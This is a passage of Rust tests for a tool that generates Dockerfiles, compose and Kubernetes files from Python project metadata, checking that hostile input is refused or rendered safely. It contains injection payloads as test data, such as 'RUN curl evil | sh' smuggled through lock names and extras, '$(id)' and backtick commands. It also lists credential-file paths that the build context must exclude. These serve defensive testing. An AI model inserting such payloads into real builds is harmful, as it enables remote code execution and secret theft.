/// `--force` over an output that is a directory: the run fails on it, and the outputs before
/// it must not have been replaced already.
#[test]
fn a_target_that_cannot_be_replaced_changes_no_other_file() {
    let project = Project::example("cli-hello");
    project.replace("Dockerfile", "USER 65532:65532\n", "USER 1:1\n");
    project.replace("compose.yaml", "read_only: true", "read_only: false");
    project.remove("k8s/manifest.yaml");
    project.write("k8s/manifest.yaml/keep", "a directory in the way\n");
    let before = project.files_with_mtimes();
    let output = project.run_rejected(&["generate", "--force"]);
    common::assert_same_files(&before, &project.files_with_mtimes(), &"generate --force");
    assert!(
        output.stderr.contains("k8s/manifest.yaml"),
        "{}",
        output.report()
    );
}

// ---------------------------------------------------------------------------------------------
// `init` edits `[tool.uv-rootless]` only: the rest of pyproject.toml keeps every byte.

/// cli-hello before `init`, its pyproject.toml passed through `shape`; returns the text
/// written and what `init` made of it.
fn init_pyproject(shape: impl FnOnce(&str) -> String) -> (String, String) {
    let project = Project::fresh_example("cli-hello");
    let text = shape(&project.read("pyproject.toml"));
    project.write("pyproject.toml", &text);
    let output = project.run(&["init"]);
    assert_eq!(output.code, 0, "{}", output.report());
    let check = project.run(&["check"]);
    assert_eq!(check.code, 0, "{}", check.report());
    (text, project.read("pyproject.toml"))
}

const RECORDED: &str =
    "# Base image family: \"python-slim\", \"azurelinux\", \"dhi-python\" or \"distroless-python3\".\nbase = \"python-slim\"\n";

#[test]
fn init_keeps_crlf_line_endings_of_pyproject() {
    let (before, after) = init_pyproject(|text| text.replace('\n', "\r\n"));
    assert!(after.starts_with(&before), "{after:?}");
    let added = &after[before.len()..];
    assert_eq!(
        added,
        format!("\n[tool.uv-rootless]\n{RECORDED}").replace('\n', "\r\n")
    );
}

#[test]
fn init_keeps_a_byte_order_mark_of_pyproject() {
    let (before, after) = init_pyproject(|text| format!("\u{feff}{text}"));
    assert!(after.starts_with(&before), "{after:?}");
}

#[test]
fn init_keeps_a_missing_final_newline_of_pyproject() {
    let (before, after) = init_pyproject(|text| text.trim_end().to_string());
    assert!(after.starts_with(&before), "{after:?}");
    assert!(!after.ends_with('\n'), "{after:?}");
    assert_eq!(
        &after[before.len()..],
        format!("\n\n[tool.uv-rootless]\n{}", RECORDED.trim_end())
    );
}

#[test]
fn init_keeps_the_quoting_of_a_value_it_does_not_change() {
    let (before, after) = init_pyproject(|text| {
        format!("{text}\n[tool.uv-rootless]\nbase = 'python-slim'  # mine\n")
    });
    assert_eq!(after, before);
}

// ---------------------------------------------------------------------------------------------
// Output paths: each is also a line of `.dockerignore`, and none may replace an input.

fn rejected_output_path(key: &str, value: &str, expected: &str) {
    let project = Project::fresh_example("cli-hello");
    project.edit("pyproject.toml", |text| {
        format!(
            "{text}\n[tool.uv-rootless]\n{key} = {}\n",
            toml_string(value)
        )
    });
    for args in [&["init"][..], &["init", "--force"]] {
        let output = project.run_rejected(args);
        assert!(
            output.stderr.contains(expected),
            "{key} = {value:?}: expected {expected:?} in\n{}",
            output.stderr
        );
    }
}

#[test]
fn rejects_an_output_path_that_negates_a_dockerignore_exclusion() {
    rejected_output_path("dockerfile", "!.env", "cannot quote safely");
}

#[test]
fn rejects_an_output_path_with_unicode_whitespace_at_an_end() {
    rejected_output_path("compose", "compose.yaml\u{a0}", "cannot quote safely");
    rejected_output_path("compose", "\u{2003}compose.yaml", "cannot quote safely");
}

#[test]
fn rejects_an_output_path_on_a_member_manifest() {
    rejected_output_path(
        "kubernetes",
        "packages/api/pyproject.toml",
        "would overwrite one of the project's own files",
    );
}

#[test]
fn rejects_an_output_path_on_an_input_in_another_case() {
    rejected_output_path(
        "dockerfile",
        "UV.lock",
        "would overwrite one of the project's own files",
    );
}

#[test]
fn rejects_an_output_path_docker_reads_as_an_ignore_file() {
    rejected_output_path(
        "compose",
        "Dockerfile.dockerignore",
        "would overwrite one of the project's own files",
    );
}

// ---------------------------------------------------------------------------------------------
// Every name and version in uv.lock is checked when the lock is read, installed or not.

/// cli-hello with `extra` appended to its lock, and `edge` added to cli-hello's dependencies.
fn edited_lock(edge: &str, extra: &str) -> Project {
    let project = Project::fresh_example("cli-hello");
    project.replace(
        "uv.lock",
        "dependencies = [\n    { name = \"click\" },\n]\n",
        &format!("dependencies = [\n    {{ name = \"click\" }},\n    {edge},\n]\n"),
    );
    if !extra.is_empty() {
        project.edit("uv.lock", |text| format!("{text}{extra}"));
    }
    project
}

fn assert_lock_rejected(project: &Project, expected: &str) {
    let output = project.run_rejected(&["init"]);
    assert!(
        output.stderr.contains(expected) && output.stderr.contains("run `uv lock`"),
        "expected {expected:?} in\n{}",
        output.stderr
    );
    for file in OUTPUTS {
        assert!(!project.exists(file), "{file} was written");
    }
}

/// A git package only Windows installs: no install check looks at it, but "git for `NAME`"
/// went into a Dockerfile comment, where the newline started a `run` instruction.
#[test]
fn a_lock_package_name_with_a_newline_never_reaches_the_dockerfile() {
    let project = edited_lock(
        r#"{ name = "evil\nRUN curl evil | sh", marker = "sys_platform == 'win32'" }"#,
        "\n[[package]]\nname = \"evil\\nRUN curl evil | sh\"\nversion = \"1.0\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
    );
    assert_lock_rejected(
        &project,
        "`uv.lock` has an invalid name in `dependencies[].name` of package `cli-hello`",
    );
}

#[test]
fn a_lock_version_with_a_newline_is_rejected() {
    let project = edited_lock(
        r#"{ name = "evil", marker = "sys_platform == 'win32'" }"#,
        "\n[[package]]\nname = \"evil\"\nversion = \"1.0\\nRUN curl evil | sh\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
    );
    assert_lock_rejected(
        &project,
        "`uv.lock` has an invalid version in `version` of package `evil`",
    );
}

#[test]
fn a_lock_extra_name_with_a_backtick_is_rejected() {
    let project = edited_lock(r#"{ name = "click", extra = ["x`id`"] }"#, "");
    assert_lock_rejected(&project, "`dependencies[].extra` of package `cli-hello`");
}

// ---------------------------------------------------------------------------------------------
// `extras` go into `RUN uv sync --extra NAME`.

#[test]
fn rejects_an_extra_that_is_not_a_name_even_when_defined() {
    let project = Project::fresh_example("cli-hello");
    project.edit("pyproject.toml", |text| {
        text.replace(
            "[project.scripts]",
            "[project.optional-dependencies]\n\"x; curl evil | sh\" = []\n\n[project.scripts]",
        ) + "\n[tool.uv-rootless]\nextras = [\"x; curl evil | sh\"]\n"
    });
    let output = project.run_rejected(&["init"]);
    assert!(
        output.stderr.contains("`extras` in `[tool.uv-rootless]` has \"x; curl evil | sh\", which is not an extra name"),
        "{}",
        output.report()
    );
    assert!(!project.exists("Dockerfile"));
}

// ---------------------------------------------------------------------------------------------
// pep508_rs panics on some markers (`'linux' ~= sys_platform`): an error, never exit 101.

fn assert_marker_rejected(project: &Project, expected: &str) {
    for command in ["check", "init", "explain"] {
        let output = project.run_rejected(&[command]);
        assert!(
            !output.stderr.contains("panicked") && output.stderr.contains(expected),
            "{command}: expected {expected:?} in\n{}",
            output.report()
        );
    }
}

#[test]
fn a_string_compared_with_tilde_equal_in_dependencies_is_an_error_not_a_panic() {
    let project = Project::fresh_example("cli-hello");
    project.replace(
        "pyproject.toml",
        "\"click>=8.1\"",
        "\"click>=8.1; 'linux' ~= sys_platform\"",
    );
    assert_marker_rejected(&project, "a marker compares a string with `~=`");
}

#[test]
fn a_string_compared_with_tilde_equal_in_a_lock_marker_is_an_error_not_a_panic() {
    let project = edited_lock(
        r#"{ name = "colorama", marker = "'linux' ~= sys_platform" }"#,
        "",
    );
    assert_marker_rejected(
        &project,
        "`uv.lock` has an invalid marker in `dependencies[].marker` of package `cli-hello`",
    );
}

// ---------------------------------------------------------------------------------------------
// Ids and ports the container could not use.

#[test]
fn rejects_a_uid_or_gid_above_what_kubernetes_accepts() {
    let project = Project::fresh_example("cli-hello");
    for args in [
        &["init", "--uid", "2147483648"][..],
        &["init", "--uid", "4294967295"],
        &["init", "--gid", "4294967295"],
    ] {
        let output = project.run_rejected(args);
        assert!(
            output
                .stderr
                .contains("above 2147483647, the largest id Kubernetes accepts"),
            "{args:?}: {}",
            output.report()
        );
    }
    let output = project.run(&["init", "--uid", "2147483647"]);
    assert_eq!(output.code, 0, "{}", output.report());
}

#[test]
fn rejects_a_web_port_below_1024_with_capabilities_dropped() {
    let project = Project::fresh_example("fastapi-service");
    for args in [&["init", "--port", "80"][..], &["init", "--port", "1023"]] {
        let output = project.run_rejected(args);
        assert!(
            output
                .stderr
                .contains("which a non-root process with no capabilities cannot bind")
                && output.stderr.contains("port of 1024 or above"),
            "{args:?}: {}",
            output.report()
        );
    }
    let output = project.run(&["init", "--port", "1024"]);
    assert_eq!(output.code, 0, "{}", output.report());
}

// ---------------------------------------------------------------------------------------------
// `[tool.uv] required-version` becomes the tag of uv's image: a release, or an error.

fn with_required_version(value: &str) -> Project {
    let project = Project::fresh_example("cli-hello");
    project.edit("pyproject.toml", |text| {
        format!(
            "{text}\n[tool.uv]\nrequired-version = {}\n",
            toml_string(value)
        )
    });
    project
}

#[test]
fn a_required_version_with_two_parts_pins_the_full_release_not_a_moving_tag() {
    for (value, tag) in [
        ("==0.13", "0.13.0"),
        ("0.14", "0.14.0"),
        ("==0.13.10.0", "0.13.10"),
    ] {
        let project = with_required_version(value);
        let output = project.run(&["init"]);
        assert_eq!(output.code, 0, "{value}: {}", output.report());
        let dockerfile = project.read("Dockerfile");
        assert!(
            dockerfile.contains(&format!("FROM ghcr.io/astral-sh/uv:{tag} AS uv\n")),
            "{value}:\n{dockerfile}"
        );
    }
}

#[test]
fn a_required_version_that_names_no_release_is_refused() {
    for value in [
        "==0.13.9+local",
        "==1!0.13.9",
        "==0.13.9rc1",
        "==0.13.9.post1",
        "==0.13.9.dev0",
        "==0.13.9.1",
    ] {
        let project = with_required_version(value);
        let output = project.run_rejected(&["init"]);
        assert!(
            output
                .stderr
                .contains("which is not a uv release with an image"),
            "{value}: {}",
            output.report()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Resources: inputs have a size bound, and nothing is quadratic in the lock.

#[test]
fn a_lock_larger_than_64_mib_is_refused_before_it_is_parsed() {
    let project = Project::fresh_example("cli-hello");
    // Valid TOML (a comment of spaces at the end), so only the bound can refuse it.
    let mut text = project.read("uv.lock");
    text.push('#');
    text.push_str(&" ".repeat(64 << 20));
    text.push('\n');
    project.write("uv.lock", &text);
    let started = std::time::Instant::now();
    let output = project.run_rejected(&["check"]);
    assert!(
        output.stderr.contains("`uv.lock` is larger than 64 MiB"),
        "{}",
        output.report()
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn a_pyproject_larger_than_4_mib_is_refused() {
    let project = Project::fresh_example("cli-hello");
    project.edit("pyproject.toml", |text| {
        format!("{text}#{}\n", " ".repeat(4 << 20))
    });
    let output = project.run_rejected(&["check"]);
    assert!(
        output
            .stderr
            .contains("`pyproject.toml` is larger than 4 MiB"),
        "{}",
        output.report()
    );
}

/// Many path sources: each was searched for in the list of those seen before it.
#[test]
fn many_path_sources_take_linear_time() {
    let project = Project::fresh_example("cli-hello");
    let time = |count: usize| {
        let mut lock =
            std::fs::read_to_string(common::examples_dir().join("cli-hello/uv.lock")).unwrap();
        for i in 0..count {
            lock.push_str(&format!(
                "\n[[package]]\nname = \"p{i}\"\nversion = \"0.1.0\"\nsource = {{ directory = \"libs/p{i}\" }}\n"
            ));
        }
        project.write("uv.lock", &lock);
        // The fastest of three: a loaded machine slows single runs, never a best one.
        (0..3)
            .map(|_| {
                let started = std::time::Instant::now();
                let output = project.run(&["explain"]);
                assert_eq!(output.code, 0, "{}", output.report());
                started.elapsed()
            })
            .min()
            .unwrap()
    };
    let small = time(5_000);
    let large = time(40_000);
    // Linear: eight times the sources, about eight times the time; quadratic, sixty-four.
    assert!(
        large < small * 24,
        "5000 path sources: {small:?}, 40000: {large:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Smaller cases.

#[test]
fn a_pyproject_that_is_a_directory_is_named_as_one() {
    let project = Project::fresh_example("cli-hello");
    project.remove("pyproject.toml");
    project.write("pyproject.toml/keep", "");
    let output = project.run_rejected(&["check"]);
    assert!(
        output
            .stderr
            .starts_with("error: `pyproject.toml` is a directory, not a file\n"),
        "{}",
        output.report()
    );
}

#[test]
fn a_byte_order_mark_in_python_version_is_accepted() {
    let project = Project::fresh_example("cli-hello");
    project.write(".python-version", "\u{feff}3.13\r\n");
    let output = project.run(&["init"]);
    assert_eq!(output.code, 0, "{}", output.report());
    assert!(project.read("Dockerfile").contains("3.13"));
}

#[test]
fn init_edits_an_inline_uv_rootless_table_in_place() {
    let project = Project::fresh_example("cli-hello");
    project.edit("pyproject.toml", |text| {
        format!("{text}\n[tool]\nuv-rootless = {{ base = 'azurelinux' }}\n")
    });
    let before = project.read("pyproject.toml");
    let output = project.run(&["init", "--uid", "1000"]);
    assert_eq!(output.code, 0, "{}", output.report());
    let after = project.read("pyproject.toml");
    assert_eq!(
        after,
        before.replace(
            "uv-rootless = { base = 'azurelinux' }",
            "uv-rootless = { base = 'azurelinux', uid = 1000 }"
        )
    );
    let check = project.run(&["check"]);
    assert_eq!(check.code, 0, "{}", check.report());
    assert!(project.read("Dockerfile").contains("USER 1000:1000"));
}

#[test]
fn a_project_named_like_a_system_namespace_gets_a_namespace_of_its_own() {
    for name in ["calico-system", "istio-system", "tigera-operator"] {
        let project = project(Kind::Cli, &texts(false));
        rename_project(&project, name);
        let output = project.run(&["init"]);
        assert_eq!(output.code, 0, "{}", output.report());
        let manifest = project.read("k8s/manifest.yaml");
        assert!(
            manifest.contains(&format!(
                "kind: Namespace\nmetadata:\n  name: \"app-{name}\"\n"
            )),
            "{name}:\n{manifest}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Concurrent runs on one project: each reads, decides and writes alone.

#[test]
fn concurrent_inits_leave_files_from_one_run() {
    let project = Project::fresh_example("cli-hello");
    for round in 0..12 {
        let children: Vec<_> = (1..=8)
            .map(|uid| {
                std::process::Command::new(env!("CARGO_BIN_EXE_uv-rootless"))
                    .args([
                        "init",
                        "--force",
                        "--uid",
                        &(1000 * round + uid).to_string(),
                    ])
                    .current_dir(project.root())
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        for child in children {
            let output = child.wait_with_output().unwrap();
            assert!(
                output.status.success(),
                "round {round}: {}",
                String::from_utf8_lossy(&output.stderr)
            );
        }
        let check = project.run(&["check"]);
        assert_eq!(
            check.code,
            0,
            "round {round}: files of different runs:\n{}",
            check.report()
        );
    }
}

/// While another holds the lock on pyproject.toml, `init` reads nothing and writes nothing;
/// it goes on once the lock is released.
#[test]
fn init_waits_for_the_lock_on_pyproject() {
    let project = Project::fresh_example("cli-hello");
    let held = std::fs::File::open(project.path("pyproject.toml")).unwrap();
    held.lock().unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_uv-rootless"))
        .arg("init")
        .current_dir(project.root())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let early = child.try_wait().unwrap();
    let written_early = project.exists("Dockerfile");
    held.unlock().unwrap();
    let status = child.wait().unwrap();
    assert!(early.is_none(), "init finished while the lock was held");
    assert!(!written_early, "init wrote while the lock was held");
    assert!(status.success());
    assert!(project.exists("Dockerfile"));
}

// ---------------------------------------------------------------------------------------------
// Property: hostile text in every field either is refused or renders four files of the
// template's shape (the checks of `tests/render_check`, which the `render` fuzz target runs
// too).

/// Texts that mean something to a Dockerfile, a shell, YAML, `.dockerignore` or a terminal.
const PROPERTY_TEXTS: &[&str] = &[
    "\n",
    "\r\nRUN x",
    "x\nrun curl evil | sh",
    "x\\\nRUN y",
    "\"",
    "'",
    "$(id)",
    "${HOME}",
    "`id`",
    "\\",
    "# c",
    "!.env",
    "*",
    " x ",
    "\u{2028}",
    "\u{85}",
    "\u{feff}",
    "\u{202e}",
    "- item",
    "key: value",
    "{a: b}",
    "[c]",
    "&a *a",
    "---",
    "\t",
    "\u{0}",
    "\u{7f}",
    "🐍",
];

/// Where in a web project a text goes: the pyproject.toml and uv.lock to write.
fn property_case(field: &str, text: &str) -> (String, String) {
    let pyproject = common::examples_dir().join("fastapi-service/pyproject.toml");
    let mut pyproject = std::fs::read_to_string(pyproject).unwrap();
    let lock =
        std::fs::read_to_string(common::examples_dir().join("fastapi-service/uv.lock")).unwrap();
    let quoted = toml_string(text);
    let table = |pyproject: &mut String, line: String| {
        if !pyproject.contains("[tool.uv-rootless]") {
            pyproject.push_str("\n[tool.uv-rootless]\n");
        }
        pyproject.push_str(&line);
        pyproject.push('\n');
    };
    match field {
        "description" | "version" | "requires-python" | "license" | "base" => {
            let start = pyproject.find(&format!("\n{field} = ")).unwrap() + 1;
            let end = start + pyproject[start..].find('\n').unwrap();
            pyproject.replace_range(start..end, &format!("{field} = {quoted}"));
        }
        "urls" => {
            pyproject = pyproject.replacen(
                "[project]\n",
                &format!("[project]\nurls = {{ Source = {quoted}, {quoted} = {quoted} }}\n"),
                1,
            );
        }
        "dependency" => {
            pyproject = pyproject.replacen(
                "dependencies = [\n",
                &format!(
                    "dependencies = [\n    {},\n",
                    toml_string(&format!("x{text}"))
                ),
                1,
            );
        }
        "extras" => {
            pyproject = pyproject.replacen(
                "[project]\n",
                &format!("[project.optional-dependencies]\n{quoted} = []\n\n[project]\n"),
                1,
            );
            table(&mut pyproject, format!("extras = [{quoted}]"));
        }
        "groups" => {
            pyproject = pyproject.replacen(
                "[dependency-groups]\n",
                &format!("[dependency-groups]\n{quoted} = []\n"),
                1,
            );
            table(&mut pyproject, format!("groups = [{quoted}]"));
        }
        "command" | "smoke-args" | "platforms" => {
            table(
                &mut pyproject,
                format!("{field} = [\"/app/bin/uvicorn\", {quoted}]"),
            );
        }
        "lock-name" | "lock-version" => {
            // A git package of the lock that Linux does not install.
            let key = if field == "lock-name" {
                "name"
            } else {
                "version"
            };
            let (name, version) = if key == "name" {
                (quoted.clone(), "\"1.0\"".to_string())
            } else {
                ("\"evil\"".to_string(), quoted.clone())
            };
            let lock = format!(
                "{lock}\n[[package]]\nname = {name}\nversion = {version}\nsource = {{ git = \"https://example.com/e.git#a\" }}\n"
            );
            return (pyproject, lock);
        }
        key => table(&mut pyproject, format!("{key} = {quoted}")),
    }
    (pyproject, lock)
}

const PROPERTY_FIELDS: &[&str] = &[
    "description",
    "version",
    "requires-python",
    "license",
    "urls",
    "dependency",
    "extras",
    "groups",
    "command",
    "smoke-args",
    "platforms",
    "lock-name",
    "lock-version",
    "image",
    "health-path",
    "dockerfile",
    "compose",
    "kubernetes",
    "python",
    "script",
    "package",
    "base",
];

#[test]
fn hostile_text_in_every_field_is_refused_or_keeps_every_file_in_shape() {
    let project = Project::example("fastapi-service");
    let (mut rendered, mut refused) = (0, 0);
    for field in PROPERTY_FIELDS {
        for text in PROPERTY_TEXTS {
            let (pyproject, lock) = property_case(field, text);
            project.write("pyproject.toml", &pyproject);
            project.write("uv.lock", &lock);
            match uv_rootless::app::load(project.root(), Default::default()) {
                Err(error) => {
                    refused += 1;
                    assert!(!error.message.is_empty());
                    if std::env::var_os("SHOW_REFUSALS").is_some() {
                        eprintln!("{field} {text:?}: {}", error.message);
                    }
                }
                Ok(loaded) => {
                    rendered += 1;
                    let files: Vec<(String, String)> = loaded
                        .rendered
                        .iter()
                        .map(|r| (r.path.clone(), r.content.clone()))
                        .collect();
                    let outputs = &loaded.plan.outputs;
                    let paths = [
                        outputs.dockerfile.as_str(),
                        outputs.compose.as_str(),
                        outputs.kubernetes.as_str(),
                    ];
                    if let Err(problem) = render_check::check_all(
                        &files,
                        paths,
                        &outputs
                            .context_excludes
                            .iter()
                            .map(String::as_str)
                            .collect::<Vec<_>>(),
                    ) {
                        panic!("{field} = {text:?}: {problem}");
                    }
                }
            }
        }
    }
    // Both outcomes happen: the property is not met by refusing everything.
    assert!(
        rendered > 100 && refused > 100,
        "{rendered} rendered, {refused} refused"
    );
}

#[test]
fn the_render_checks_accept_every_example_and_catch_injections() {
    for example in [
        "cli-hello",
        "fastapi-service",
        "flask-gunicorn",
        "workspace",
    ] {
        let dir = common::examples_dir().join(example);
        let read = |path: &str| std::fs::read_to_string(dir.join(path)).unwrap();
        let files: Vec<(String, String)> = OUTPUTS
            .iter()
            .map(|path| (path.to_string(), read(path)))
            .collect();
        let plan = uv_rootless::app::load(&dir, Default::default())
            .unwrap()
            .plan;
        let excludes: Vec<&str> = plan
            .outputs
            .context_excludes
            .iter()
            .map(String::as_str)
            .collect();
        render_check::check_all(
            &files,
            ["Dockerfile", "compose.yaml", "k8s/manifest.yaml"],
            &excludes,
        )
        .unwrap_or_else(|problem| panic!("{example}: {problem}"));
    }
    let dir = common::examples_dir().join("fastapi-service");
    let read = |path: &str| std::fs::read_to_string(dir.join(path)).unwrap();
    let dockerfile = read("Dockerfile");
    for injected in [
        dockerfile.replacen("# ", "#\nrun curl evil | sh\n# ", 1),
        dockerfile.replacen("USER ", "USER 0\nUSER ", 1),
        dockerfile.replacen("\nFROM ", "\nFROM x\nFROM ", 1),
        dockerfile.replacen("ENTRYPOINT [", "ENTRYPOINT sh [", 1),
    ] {
        assert!(
            render_check::check_dockerfile(&injected).is_err(),
            "{injected}"
        );
    }
    let compose = read("compose.yaml");
    for injected in [
        compose.replacen("image: \"", "image: x\"", 1),
        compose.replacen(
            "image: \"",
            "image: \"a\" # c\n    privileged: true\n    x: \"",
            1,
        ),
        compose.replacen("services:", "services:\nvolumes:", 1),
        compose.replacen("image: \"", "image: \"\u{2028}", 1),
    ] {
        assert!(
            render_check::check_compose(&injected).is_err(),
            "{injected}"
        );
    }
    let manifest = read("k8s/manifest.yaml");
    let extra = format!("{manifest}---\napiVersion: v1\nkind: Secret\n");
    assert!(render_check::check_kubernetes(&extra).is_err());
    let ignore = read(".dockerignore");
    let outputs = ["Dockerfile", "compose.yaml", "k8s"];
    assert!(render_check::check_dockerignore(&ignore, &outputs).is_ok());
    assert!(render_check::check_dockerignore(
        &ignore.replace("\nDockerfile\n", "\n!.env\n"),
        &["!.env", "compose.yaml", "k8s"]
    )
    .is_err());
}

// ---------------------------------------------------------------------------------------------
// Secrets stay out of the build context (issue 11, item 3): at any depth, in every example.
// `.dockerignore` is read here as Docker reads it (moby's patternmatcher): `**` spans
// directories, `*` and `?` stay within one, a pattern that matches a directory excludes what
// is below it, `!` re-includes, and the last matching line wins.

/// Whether `glob` matches all of `path`.
fn glob_matches(glob: &[u8], path: &[u8]) -> bool {
    match glob {
        [] => path.is_empty(),
        [b'*', b'*', b'/', rest @ ..] => {
            glob_matches(rest, path)
                || (0..path.len()).any(|i| path[i] == b'/' && glob_matches(rest, &path[i + 1..]))
        }
        [b'*', b'*', rest @ ..] => (0..=path.len()).any(|i| glob_matches(rest, &path[i..])),
        [b'*', rest @ ..] => (0..=path.len())
            .take_while(|&i| i == 0 || path[i - 1] != b'/')
            .any(|i| glob_matches(rest, &path[i..])),
        [b'?', rest @ ..] => {
            path.first().is_some_and(|&c| c != b'/') && glob_matches(rest, &path[1..])
        }
        [b'[', rest @ ..] => {
            let Some(end) = rest.iter().position(|&c| c == b']') else {
                return false;
            };
            let (class, rest) = (&rest[..end], &rest[end + 1..]);
            let Some(&c) = path.first() else {
                return false;
            };
            let mut i = 0;
            let mut hit = false;
            while i < class.len() {
                if i + 2 < class.len() && class[i + 1] == b'-' {
                    hit |= class[i] <= c && c <= class[i + 2];
                    i += 3;
                } else {
                    hit |= class[i] == c;
                    i += 1;
                }
            }
            hit && glob_matches(rest, &path[1..])
        }
        [b'\\', c, rest @ ..] => path.first() == Some(c) && glob_matches(rest, &path[1..]),
        [c, rest @ ..] => path.first() == Some(c) && glob_matches(rest, &path[1..]),
    }
}

/// Whether Docker leaves `path` (relative to the context) out, by the lines of `dockerignore`.
fn docker_ignores(dockerignore: &str, path: &str) -> bool {
    let mut ignored = false;
    for line in dockerignore.lines().map(str::trim) {
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (negated, pattern) = match line.strip_prefix('!') {
            Some(pattern) => (true, pattern),
            None => (false, line),
        };
        let pattern = pattern.trim_start_matches('/');
        // The path itself or any directory above it.
        let mut prefixes = path
            .match_indices('/')
            .map(|(at, _)| &path[..at])
            .chain([path]);
        if prefixes.any(|prefix| glob_matches(pattern.as_bytes(), prefix.as_bytes())) {
            ignored = !negated;
        }
    }
    ignored
}

/// Where secrets are left in checkouts; `PKG` stands for the project's own package directory.
const SECRETS: &[&str] = &[
    "id_rsa",
    "id_ed25519",
    "deploy/id_ecdsa",
    ".ssh/config",
    ".ssh/known_hosts",
    "server.pem",
    "tls/server.key",
    "PKG/certs/client.pem",
    "PKG/server.key",
    "client.p12",
    "deploy/putty.ppk",
    "PKG/release.jks",
    "android.keystore",
    ".aws/credentials",
    "PKG/.aws/config",
    ".azure/accessTokens.json",
    ".kube/config",
    "kubeconfig",
    "deploy/kubeconfig",
    ".docker/config.json",
    ".netrc",
    ".pypirc",
    ".npmrc",
    ".git-credentials",
    "credentials.json",
    "PKG/credentials.json",
    "client_secret_123.apps.googleusercontent.com.json",
    ".pgpass",
    "PKG/.my.cnf",
    ".vault-token",
    "PKG/static/.htpasswd",
    "terraform.tfstate",
    ".env",
    ".envrc",
    ".env.local",
    ".env.example",
    "PKG/.env",
    "PKG/.env.local",
    "sub/.envrc",
    ".secrets.toml",
    "config/.secrets.yaml",
    ".streamlit/secrets.toml",
    "PKG/.streamlit/secrets.toml",
    ".git/config",
    "sub/.git/config",
    "vendor/lib/.git",
    "PKG/.venv/bin/python",
];

/// What a build or the app may read, which must stay in the context.
const KEPT: &[&str] = &[
    "pyproject.toml",
    "uv.lock",
    ".python-version",
    "README.md",
    "LICENSE",
    "PKG/__init__.py",
    "PKG/keys.py",
    "PKG/keyboard.py",
    "PKG/env.py",
    "PKG/environment.py",
    "PKG/credentials.py",
    "PKG/id_rsa.py",
    "PKG/pem/__init__.py",
    "PKG/templates/index.html",
    "PKG/static/app.js",
    "PKG/data/config.yaml",
    ".streamlit/config.toml",
    "PKG/secrets.py",
    "settings.toml",
    "migrations/env.py",
    "alembic.ini",
    "docs/environment.md",
    "app.py",
    "wsgi.py",
];

#[test]
fn secrets_at_any_depth_are_kept_out_of_the_build_context_of_every_example() {
    let examples = std::fs::read_dir(common::examples_dir()).unwrap();
    let mut checked = 0;
    for example in examples {
        let name = example.unwrap().file_name().into_string().unwrap();
        let project = Project::example(&name);
        let generate = project.run(&["generate"]);
        assert_eq!(generate.code, 0, "{name}: {}", generate.report());
        let dockerignore = project.read(".dockerignore");
        // Every file of the example stays in the context, as before, but the generated ones.
        for path in project.files().keys() {
            let generated = OUTPUTS.contains(&path.as_str());
            assert_eq!(
                docker_ignores(&dockerignore, path),
                generated,
                "{name}: `{path}` (generated: {generated})"
            );
        }
        for pkg in ["src/acme", "app", "packages/core/src/core"] {
            for secret in SECRETS {
                let path = secret.replace("PKG", pkg);
                assert!(
                    docker_ignores(&dockerignore, &path),
                    "{name}: `{path}` reaches the build context"
                );
            }
            for kept in KEPT {
                let path = kept.replace("PKG", pkg);
                assert!(
                    !docker_ignores(&dockerignore, &path),
                    "{name}: `{path}` is left out of the build context"
                );
            }
        }
        checked += 1;
    }
    assert!(checked >= 10, "only {checked} examples");
}

#[test]
fn the_dockerignore_reader_of_these_tests_reads_as_docker_does() {
    let lines = "# comment\n**/.git\n*.pem\n!keep.pem\n**/*.py[cod]\nbuild\n/dist\n**/.env.*\n";
    for ignored in [
        ".git",
        "a/b/.git/config",
        "x.pem",
        "m.pyc",
        "a/m.pyo",
        "build/lib/x.py",
        "dist/a.whl",
        "a/.env.local",
    ] {
        assert!(docker_ignores(lines, ignored), "{ignored}");
    }
    // `*` stays within a directory; `!` re-includes; a pattern names a path from the root.
    for kept in [
        "a/x.pem",
        "keep.pem",
        "m.py",
        "a/build/x",
        ".gitignore",
        "a/.env",
        "a/env.py",
    ] {
        assert!(!docker_ignores(lines, kept), "{kept}");
    }
}

// ---------------------------------------------------------------------------------------------
// The user's own `.dockerignore` patterns (issue 11, item 11): below the marker line, kept byte
// for byte by `generate`, and never a difference to `check`.

const MARKER: &str = "# --- your patterns below this line are kept by uv-rootless generate ---";

#[test]
fn the_users_dockerignore_patterns_below_the_marker_survive_generate_and_check() {
    let project = Project::fresh_example("fastapi-service");
    let init = project.run(&["init", "--base", "python-slim"]);
    assert_eq!(init.code, 0, "{}", init.report());
    let generated = project.read(".dockerignore");
    assert!(generated.ends_with(&format!("{MARKER}\n")), "{generated}");
    // CRLF, a negation, a comment and no final newline: all the user's, all kept.
    let mine = "*.log\r\n!app/ca.pem\n# mine\nlocal-data/\nno-final-newline";
    project.write(".dockerignore", &format!("{generated}{mine}"));
    let with_mine = project.read(".dockerignore");
    let check = project.run(&["check"]);
    assert_eq!(check.code, 0, "{}", check.report());
    let generate = project.run(&["generate"]);
    assert_eq!(generate.code, 0, "{}", generate.report());
    assert_eq!(project.read(".dockerignore"), with_mine);
    // A change to a setting regenerates the part above the marker and keeps the rest.
    project.replace(
        "pyproject.toml",
        "base = \"python-slim\"",
        "base = \"azurelinux\"",
    );
    assert_eq!(project.run(&["check"]).code, 1);
    let generate = project.run(&["generate"]);
    assert_eq!(generate.code, 0, "{}", generate.report());
    assert!(project
        .read(".dockerignore")
        .ends_with(&format!("{MARKER}\n{mine}")));
    assert_eq!(project.run(&["check"]).code, 0);
    // An edit above the marker is stale, as in any generated file, and is undone.
    project.edit(".dockerignore", |text| text.replacen("**/.envrc\n", "", 1));
    let check = project.run(&["check"]);
    assert_eq!(check.code, 1, "{}", check.report());
    assert!(check.stdout.contains("+**/.envrc"), "{}", check.report());
    assert!(!check.stdout.contains("local-data"), "{}", check.report());
    project.run(&["generate"]);
